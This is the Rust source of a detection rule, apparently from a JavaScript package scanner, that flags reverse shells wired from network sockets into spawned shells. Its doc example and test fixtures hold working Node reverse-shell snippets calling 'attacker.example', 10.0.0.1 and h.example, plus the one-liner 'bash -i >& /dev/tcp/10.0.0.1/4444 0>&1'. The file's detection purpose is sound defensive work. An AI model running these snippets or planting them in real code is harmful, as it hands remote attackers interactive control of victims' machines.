//! ## What it does
//! Fires when a shell is wired to a network socket: a raw `net`/`tls` socket piped into a
//! spawned interactive shell (`/bin/sh`, `bash`, `cmd.exe`, `powershell`) or the shell's
//! output written to the socket, a shell spawned with the socket as its stdio, or classic
//! reverse-shell command lines (`bash -i >& /dev/tcp/…`, `nc -e /bin/sh`, `mkfifo … | nc`).
//!
//! ## Why is this bad?
//! It gives a remote operator an interactive shell on the machine.
//!
//! ## Example
//! ```js
//! const c = net.connect(4444, 'attacker.example');
//! const sh = spawn('/bin/sh', []);
//! c.pipe(sh.stdin); sh.stdout.pipe(c);                        // reverse-shell
//! ```
//! Benign look-alike: a web terminal piping a pseudo-terminal to a WebSocket the user opened
//! from their own browser (no raw socket to a remote host), `spawn('sh', ['-c', cmd])`.
//!
//! ## Motivated by
//! Typosquats that open reverse shells from postinstall hooks (e.g. the 2021–2023 waves of
//! fake internal packages).

use crate::alert::{AlertId, AlertSeverity};
use crate::js::context::{Ctx, Emitter};
use crate::js::strings::Family;
use crate::js::taint::Taint;

pub fn check(ctx: &Ctx<'_>, out: &mut Emitter<'_>) {
    for e in &ctx.facts.execs {
        if e.families.has(Family::ReverseShellCommand) {
            out.report(
                AlertId::ReverseShell,
                AlertSeverity::Critical,
                e.span,
                format!("`{}` runs a reverse-shell command line", e.callee),
                Vec::new(),
            );
        } else if e.runs_shell_binary && ctx.taint(&e.flow).has(Taint::RAW_SOCKET) {
            out.report(
                AlertId::ReverseShell,
                AlertSeverity::Critical,
                e.span,
                "spawns a shell with a socket as its input/output",
                Vec::new(),
            );
        }
    }
    let joins = |a: Taint, b: Taint| {
        a.has(Taint::RAW_SOCKET) && b.has(Taint::SHELL_PROC)
            || a.has(Taint::SHELL_PROC) && b.has(Taint::RAW_SOCKET)
    };
    for p in &ctx.facts.pipes {
        if joins(ctx.taint(&p.from), ctx.taint(&p.to)) {
            out.report(
                AlertId::ReverseShell,
                AlertSeverity::Critical,
                p.span,
                "pipes a network socket and a shell into each other",
                Vec::new(),
            );
        }
    }
    for n in &ctx.facts.net {
        if let Some(r) = &n.receiver
            && joins(ctx.taint(r), ctx.taint(&n.payload))
        {
            out.report(
                AlertId::ReverseShell,
                AlertSeverity::Critical,
                n.span,
                "copies data between a network socket and a shell",
                Vec::new(),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::alert::{AlertId, AlertSeverity};
    use crate::rules::test_support::{fires, silent};

    #[test]
    fn socket_wired_to_a_shell_fires() {
        fires(
            "const net = require('net'), { spawn } = require('child_process');\nconst c = new net.Socket();\nc.connect(4444, '10.0.0.1', () => { const sh = spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });",
            false,
            AlertId::ReverseShell,
            AlertSeverity::Critical,
        );
        fires(
            "const net = require('net'), cp = require('child_process');\nconst s = net.connect(9001, 'h.example');\nconst sh = cp.spawn('cmd.exe');\ns.on('data', d => sh.stdin.write(d));\nsh.stdout.on('data', d => s.write(d));",
            false,
            AlertId::ReverseShell,
            AlertSeverity::Critical,
        );
        fires(
            "require('child_process').exec('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1');",
            false,
            AlertId::ReverseShell,
            AlertSeverity::Critical,
        );
    }

    #[test]
    fn shell_commands_and_servers_do_not() {
        silent(
            "const { spawn } = require('child_process'); const p = spawn('sh', ['-c', 'make all']); p.stdout.pipe(process.stdout);",
            false,
            AlertId::ReverseShell,
        );
        silent(
            "const net = require('net'); net.createServer(s => s.pipe(s)).listen(7);",
            false,
            AlertId::ReverseShell,
        );
    }
}
